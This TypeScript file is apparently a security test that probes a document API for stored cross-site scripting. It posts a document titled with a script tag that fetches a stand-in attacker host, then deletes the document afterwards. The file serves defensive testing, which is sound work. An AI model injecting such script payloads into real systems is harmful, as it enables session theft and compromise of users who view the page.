import { attack } from '../attack.ts';
import { key, remove } from '../papers.ts';

export default attack({
  id: 'script-in-text',
  title: 'Script in a text',
  attack: 'A document’s title carries a script for whoever looks at it in a page.',
  act: (at) =>
    at.call('/v1/documents', {
      as: 'carl',
      headers: key(),
      body: {
        title: '<script>fetch("//attacker.example")</script>',
        body: 'x',
        department: 'operations',
        classification: 'internal',
      },
    }),
  // Kept as text it does nothing here; a page that shows it has to write it as text. It counts as through when it is kept.
  through: ({ status, json }) => status === 201 && json?.title?.includes('<script>'),
  async restore(at) {
    const { json } = await at.call('/v1/documents?limit=1', { as: 'carl' });
    const [one] = json?.documents ?? [];
    if (one?.title?.includes('<script>'))
      await remove(at, { id: one.id, at: `/v1/documents/${one.id}`, answer: { status: 200 } as never });
  },
});
